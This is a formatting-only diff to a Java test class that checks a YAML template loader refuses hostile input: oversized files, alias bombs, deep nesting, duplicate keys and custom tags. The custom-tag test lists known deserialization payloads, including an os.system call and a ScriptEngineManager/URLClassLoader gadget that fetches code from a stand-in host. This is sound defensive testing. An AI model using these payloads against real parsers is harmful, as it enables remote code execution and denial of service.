@@ -30,12 +30,15 @@ class HostileInputTest {
             file.setLength(50L * 1024 * 1024); // sparse: never read, or the test would be slow and the limit moot
         }
 
-        TemplateValidationException e = assertThrows(TemplateValidationException.class,
+        TemplateValidationException e = assertThrows(
+                TemplateValidationException.class,
                 () -> TemplateLoader.defaults().loadFile(huge));
 
         TemplateProblem problem = only(e.problems(), "DOCUMENT_TOO_LARGE");
-        assertEquals("the document is 52428800 bytes; the limit is 5242880 bytes"
-                + " (TemplateLoader.Builder.maxDocumentBytes)", problem.message());
+        assertEquals(
+                "the document is 52428800 bytes; the limit is 5242880 bytes"
+                        + " (TemplateLoader.Builder.maxDocumentBytes)",
+                problem.message());
         assertEquals(huge.toString(), problem.source());
     }
 
@@ -44,7 +47,8 @@ class HostileInputTest {
         TemplateLoader small = TemplateLoader.builder().maxDocumentBytes(64).build();
         String yaml = withSteps("  - {name: a, handler: {callable: A}}\n");
 
-        TemplateValidationException e = assertThrows(TemplateValidationException.class, () -> small.loadString(yaml, "t.yaml"));
+        TemplateValidationException e =
+                assertThrows(TemplateValidationException.class, () -> small.loadString(yaml, "t.yaml"));
 
         assertTrue(only(e.problems(), "DOCUMENT_TOO_LARGE").message().contains("the limit is 64 bytes"));
     }
@@ -62,7 +66,8 @@ class HostileInputTest {
                 """), "TOO_MANY_ALIASES");
 
         // The expansion budget trips first, at the first '*e': 37 aliases in, ~140,000 nodes.
-        assertEquals("YAML aliases expand to more than 100000 nodes; refusing what looks like an alias bomb",
+        assertEquals(
+                "YAML aliases expand to more than 100000 nodes; refusing what looks like an alias bomb",
                 problem.message());
         assertEquals(6, problem.line());
     }
@@ -73,8 +78,10 @@ class HostileInputTest {
 
         TemplateProblem problem = only(rejected("x: &x small\nmany: [" + aliases + "]\n"), "TOO_MANY_ALIASES");
 
-        assertEquals("more than 50 YAML aliases; the limit guards against alias bombs"
-                + " (TemplateLoader.Builder.maxAliases)", problem.message());
+        assertEquals(
+                "more than 50 YAML aliases; the limit guards against alias bombs"
+                        + " (TemplateLoader.Builder.maxAliases)",
+                problem.message());
         assertEquals(2, problem.line());
     }
 
@@ -83,14 +90,20 @@ class HostileInputTest {
         TemplateLoader generous = TemplateLoader.builder().maxAliases(1000).build();
         StringBuilder yaml = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x, x]\n");
         for (int level = 1; level < 8; level++) {
-            yaml.append("a").append(level).append(": &a").append(level).append(" [")
-                    .append(String.join(", ", Collections.nCopies(10, "*a" + (level - 1)))).append("]\n");
+            yaml.append("a")
+                    .append(level)
+                    .append(": &a")
+                    .append(level)
+                    .append(" [")
+                    .append(String.join(", ", Collections.nCopies(10, "*a" + (level - 1))))
+                    .append("]\n");
         }
 
-        TemplateValidationException e = assertThrows(TemplateValidationException.class,
-                () -> generous.loadString(yaml.toString(), "t.yaml"));
+        TemplateValidationException e =
+                assertThrows(TemplateValidationException.class, () -> generous.loadString(yaml.toString(), "t.yaml"));
 
-        assertEquals("YAML aliases expand to more than 100000 nodes; refusing what looks like an alias bomb",
+        assertEquals(
+                "YAML aliases expand to more than 100000 nodes; refusing what looks like an alias bomb",
                 only(e.problems(), "TOO_MANY_ALIASES").message());
     }
 
@@ -128,17 +141,19 @@ class HostileInputTest {
                     handler: {callable: A, initialization: {deep: %s}}
                 """.formatted(deep))), "NESTING_TOO_DEEP");
 
-        assertEquals("the document nests deeper than 64 levels (TemplateLoader.Builder.maxNestingDepth)", problem.message());
+        assertEquals(
+                "the document nests deeper than 64 levels (TemplateLoader.Builder.maxNestingDepth)", problem.message());
         assertEquals(6, problem.line());
     }
 
     @ParameterizedTest(name = "{0}")
-    @ValueSource(strings = {
-        "!!python/object/apply:os.system ['echo pwned']",
-        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://x']]]]",
-        "!custom value",
-        "!!binary aGVsbG8="
-    })
+    @ValueSource(
+            strings = {
+                "!!python/object/apply:os.system ['echo pwned']",
+                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://x']]]]",
+                "!custom value",
+                "!!binary aGVsbG8="
+            })
     void custom_tags_and_type_construction_are_refused(String value) {
         TemplateProblem problem = only(rejected(withSteps("""
                   - name: a
@@ -175,7 +190,8 @@ class HostileInputTest {
     void an_empty_document_is_refused(String yaml) {
         TemplateProblem problem = only(rejected(yaml), "NOT_A_MAPPING");
 
-        assertEquals("the document is empty; expected a mapping with name, namespace_name, version and steps",
+        assertEquals(
+                "the document is empty; expected a mapping with name, namespace_name, version and steps",
                 problem.message());
     }
 
@@ -190,7 +206,8 @@ class HostileInputTest {
 
         assertEquals(4, problem.line());
         assertEquals(8, problem.column());
-        assertEquals("malformed YAML: expected ',' or ']', but got : (while parsing a flow sequence at line 3)",
+        assertEquals(
+                "malformed YAML: expected ',' or ']', but got : (while parsing a flow sequence at line 3)",
                 problem.message());
     }
 
@@ -210,8 +227,10 @@ class HostileInputTest {
 
     @Test
     void a_second_document_in_one_file_is_refused_at_its_line() {
-        TemplateProblem problem = only(rejected(withSteps("  - {name: a, handler: {callable: A}}\n")
-                + "---\n" + withSteps("  - {name: b, handler: {callable: B}}\n")), "MULTIPLE_DOCUMENTS");
+        TemplateProblem problem = only(
+                rejected(withSteps("  - {name: a, handler: {callable: A}}\n") + "---\n"
+                        + withSteps("  - {name: b, handler: {callable: B}}\n")),
+                "MULTIPLE_DOCUMENTS");
 
         assertEquals("a template file holds one YAML document; found another one here", problem.message());
         assertEquals(7, problem.line());
@@ -226,43 +245,54 @@ class HostileInputTest {
                     timeout_seconds: 50
                 """)), "DUPLICATE_KEY");
 
-        assertEquals("t.yaml:8:5: duplicate key 'timeout_seconds' in steps[0]; the later value would silently win",
+        assertEquals(
+                "t.yaml:8:5: duplicate key 'timeout_seconds' in steps[0]; the later value would silently win",
                 problem.toString());
     }
 
     @Test
     void a_file_that_is_not_utf8_is_refused() throws IOException {
-        Path file = Files.write(dir.resolve("latin1.yaml"), new byte[] {'n', 'a', 'm', 'e', ':', ' ', (byte) 0xE9, '\n'});
+        Path file =
+                Files.write(dir.resolve("latin1.yaml"), new byte[] {'n', 'a', 'm', 'e', ':', ' ', (byte) 0xE9, '\n'});
 
-        TemplateValidationException e = assertThrows(TemplateValidationException.class,
+        TemplateValidationException e = assertThrows(
+                TemplateValidationException.class,
                 () -> TemplateLoader.defaults().loadFile(file));
 
-        assertEquals("the document is not valid UTF-8", only(e.problems(), "READ_FAILED").message());
+        assertEquals(
+                "the document is not valid UTF-8",
+                only(e.problems(), "READ_FAILED").message());
     }
 
     @Test
     void a_missing_file_is_reported_without_a_stack_trace() {
         Path missing = dir.resolve("missing.yaml");
 
-        TemplateValidationException e = assertThrows(TemplateValidationException.class,
+        TemplateValidationException e = assertThrows(
+                TemplateValidationException.class,
                 () -> TemplateLoader.defaults().loadFile(missing));
 
-        assertEquals(missing + ": no such file", only(e.problems(), "READ_FAILED").toString());
+        assertEquals(
+                missing + ": no such file", only(e.problems(), "READ_FAILED").toString());
         assertFalse(e.getMessage().contains("Exception"));
     }
 
     @Test
     void limits_are_checked_when_configured() {
-        assertThrows(IllegalArgumentException.class, () -> TemplateLoader.builder().maxDocumentBytes(0));
-        assertThrows(IllegalArgumentException.class, () -> TemplateLoader.builder().maxAliases(-1));
-        assertThrows(IllegalArgumentException.class, () -> TemplateLoader.builder().maxNestingDepth(0));
+        assertThrows(
+                IllegalArgumentException.class, () -> TemplateLoader.builder().maxDocumentBytes(0));
+        assertThrows(
+                IllegalArgumentException.class, () -> TemplateLoader.builder().maxAliases(-1));
+        assertThrows(
+                IllegalArgumentException.class, () -> TemplateLoader.builder().maxNestingDepth(0));
     }
 
     @Test
     void a_list_used_as_a_key_is_named_in_plain_words() {
         TemplateProblem problem = only(rejected("? [a, b]\n: c\n"), "YAML_SYNTAX");
 
-        assertEquals("malformed YAML: Expected a field name (Scalar value in YAML), got this instead: a list",
+        assertEquals(
+                "malformed YAML: Expected a field name (Scalar value in YAML), got this instead: a list",
                 problem.message());
     }
 
